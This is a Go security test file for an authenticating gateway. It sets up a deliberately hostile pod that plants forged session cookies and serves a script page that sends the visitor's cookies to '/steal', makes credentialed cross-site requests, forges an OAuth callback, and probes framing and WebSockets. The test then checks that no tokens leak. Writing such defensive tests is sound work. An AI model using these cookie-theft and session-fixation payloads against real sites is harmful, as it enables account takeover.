package gate

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/tapis-project/podway/tests/system"
)

// hostile is a pod behind the login whose owner wants what its visitors have. It
// records all that it receives.
type hostile struct {
	addr string
	edge int

	mu  sync.Mutex
	got []string // requests, as they were received
}

func startHostile(t *testing.T, s *system.System) *hostile {
	t.Helper()
	h := &hostile{edge: s.EdgePort}
	server := httptest.NewServer(h)
	t.Cleanup(server.Close)
	h.addr = server.Listener.Addr().String()
	return h
}

func (h *hostile) victim(path string) string {
	return fmt.Sprintf("https://%s:%d%s", system.Host("web"), h.edge, path)
}

// ServeHTTP records the request, and answers with all that it can think of.
func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.Host, r.RequestURI)
	_ = r.Header.Write(&b)
	_, _ = io.Copy(&b, io.LimitReader(r.Body, 1<<20))
	h.mu.Lock()
	h.got = append(h.got, b.String())
	h.mu.Unlock()

	for _, c := range []string{
		"own=1; Path=/; Secure",
		"tossed1=1; Path=/; Domain=pods.dev.localhost; Secure",
		"tossed2=1; Path=/; Domain=.dev.localhost; Secure",
		"tossed3=1; Path=/; domain = " + system.Host("web"),
		"__Host-pods_session=evil; Path=/; Secure",
		"__HOST-PODS_share=evil; Path=/; Secure",
		"__Host-pods_login=evil; Path=/; Secure",
		"=__Host-pods_session=evil; Path=/; Secure",
	} {
		w.Header().Add("Set-Cookie", c)
	}
	w.Header().Set("Clear-Site-Data", `"cookies", "storage"`)
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("X-Tapis-Token", "evil")
	switch r.URL.Path {
	case "/away":
		http.Redirect(w, r, h.victim("/headers?from=hostile"), http.StatusFound)
	case "/":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, hostilePage, h.victim("/headers"), h.victim("/ws"))
	default:
		_, _ = io.WriteString(w, "thank you")
	}
}

// hostilePage tries from the visitor's browser what the pod can't try by itself, and
// keeps what it gets in window.stolen.
const hostilePage = `<!doctype html><meta charset="utf-8"><title>hostile</title><body><script>
const victim = %q, socket = %q.replace("https:", "wss:");
window.stolen = "";
const took = (what) => (text) => { if (text) window.stolen += what + ": " + text + "\n"; };
const framed = (address) => new Promise((resolve) => {
	const frame = document.createElement("iframe");
	frame.onload = () => {
		try { took("frame")(frame.contentDocument.body.innerText); } catch { /* of another site */ }
		resolve();
	};
	frame.src = address;
	document.body.append(frame);
});
const tries = [
	fetch(victim, { credentials: "include" }).then((r) => r.text()).then(took("fetch")),
	fetch(victim, { credentials: "include", mode: "no-cors", method: "POST", body: "a=b" }).then((r) => r.text()).then(took("post")),
	fetch("/.podway/callback?code=x", { redirect: "manual" }).then((r) => took("callback")(r.ok && "accepted")),
	fetch("/.podway/logout", { headers: { Accept: "text/html" } }).then((r) => took("framing")(!r.headers.get("x-frame-options") && "allowed")),
	fetch("/steal", { method: "POST", body: document.cookie }),
	new Promise((resolve) => {
		const s = new WebSocket(socket);
		s.onopen = () => { took("socket")("open"); resolve(); };
		s.onerror = resolve;
	}),
	framed(victim),
	framed("/.podway/logout"),
];
Promise.allSettled(tries).then(() => {
	const done = document.createElement("p");
	done.id = "done";
	document.body.append(done);
});
</script>`

// check fails the test if the pod received something that it must never have.
func (h *hostile) check(t *testing.T, secrets []string) {
	t.Helper()
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.got) == 0 || len(secrets) < 3 {
		t.Fatalf("got %d requests at the hostile pod and %d secrets, want more", len(h.got), len(secrets))
	}
	for _, r := range h.got {
		lower := strings.ToLower(r)
		for _, word := range []string{"__host-pods", "\nx-tapis-token:", "\nauthorization:", "/.podway/", "code="} {
			if strings.Contains(lower, word) {
				t.Errorf("the hostile pod received %q:\n%s", word, r)
			}
		}
		if i := slices.IndexFunc(secrets, func(s string) bool { return strings.Contains(r, s) }); i >= 0 {
			t.Errorf("the hostile pod received a secret (number %d):\n%.200s", i, r)
		}
	}
}

// ownCookies are those that the hostile pod may set: they stay with its host.
var ownCookies = []string{
	"own=1; Path=/; Secure", "tossed1=1; Path=/; Secure", "tossed2=1; Path=/; Secure", "tossed3=1; Path=/",
}

// TestHostilePodGetsNothingOfPrograms forges headers at a pod behind the login.
func TestHostilePodGetsNothingOfPrograms(t *testing.T) {
	s, u := start(t)
	h := startHostile(t, s)
	if err := newStranger(t, s, "hostile", h.addr).renew(); err != nil {
		t.Fatal(err)
	}
	c := newClient(t, s)
	url := fmt.Sprintf("https://%s:%d/x", system.Host("hostile"), s.EdgePort)
	for name, header := range map[string]http.Header{
		"a token":             {"X-Tapis-Token": {u.Token}},
		"a bearer":            {"Authorization": {"Bearer " + u.Token}},
		"both":                {"X-Tapis-Token": {u.Token}, "Authorization": {"bearer " + u.Token}},
		"two tokens":          {"X-Tapis-Token": {u.Token, u.Token}},
		"an odd name":         {"x_tapis_token": {u.Token}, "X-Tapis-Token": {u.Token}},
		"a named token":       {"Connection": {"X-Tapis-Token"}, "X-Tapis-Token": {u.Token}},
		"forged identities":   {"X-Tapis-Token": {u.Token}, "X-Tapis-Username": {"forged"}, "X-Pods-Assertion": {"forged"}, "X_pods_assertion": {"forged"}},
		"a cookie of ours":    {"X-Tapis-Token": {u.Token}, "Cookie": {"a=b; __Host-pods_session=forged; __HOST-pods_x=forged"}},
		"a token as a cookie": {"X-Tapis-Token": {u.Token}, "Cookie": {"X-Tapis-Token=" + u.Token}},
	} {
		r := request(t, http.MethodGet, url, header)
		res, err := c.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if name != "a token as a cookie" && res.StatusCode != http.StatusOK {
			t.Errorf("%s: got %d, want 200", name, res.StatusCode)
		}
		if got, want := res.Header["Set-Cookie"], ownCookies; !slices.Equal(got, want) {
			t.Errorf("%s: got cookies %q, want %q", name, got, want)
		}
		if got := res.Header["Clear-Site-Data"]; got != nil {
			t.Errorf("%s: got Clear-Site-Data %q, want none", name, got)
		}
		if len(res.Header["X-Tapis-Token"]) > 0 && strings.Contains(res.Header.Get("X-Tapis-Token"), u.Token) {
			t.Errorf("%s: the token came back", name)
		}
	}
	h.check(t, []string{u.Token, "forged", u.Token[strings.LastIndexByte(u.Token, '.'):]})
}
